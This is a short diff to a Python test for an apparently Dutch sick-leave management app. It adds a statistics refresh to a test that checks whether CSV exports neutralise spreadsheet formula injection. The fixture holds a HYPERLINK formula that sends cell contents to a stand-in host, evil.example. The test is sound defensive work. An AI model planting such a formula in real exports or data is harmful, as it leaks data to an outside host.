@@ -17,6 +17,7 @@ from openpyxl import load_workbook
 from openverzuim.accounts.models import AuditEntry, Department, Organisation
 from openverzuim.accounts.roles import Role
 from openverzuim.cases.models import Employee
+from openverzuim.cases.statistics_rollup import statistics_refresh
 from openverzuim.reports import counting
 from openverzuim.reports import figures as f
 from openverzuim.reports.statistics import dashboard
@@ -99,6 +100,7 @@ def test_a_department_named_like_a_formula_is_text_in_every_export(client, anna,
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     department = Department.objects.create(organisation=bakery_q1, name=evil)
     Employee.objects.filter(organisation=bakery_q1).update(department=department)
+    statistics_refresh(Employee.objects.filter(organisation=bakery_q1))  # as employee_update does
     client.force_login(anna)
     query = {**q1(bakery_q1), "format": "csv", "table": "departments"}
     names = [row[0] for row in exported_csv(client.get(EXPORT, query))[1:]]
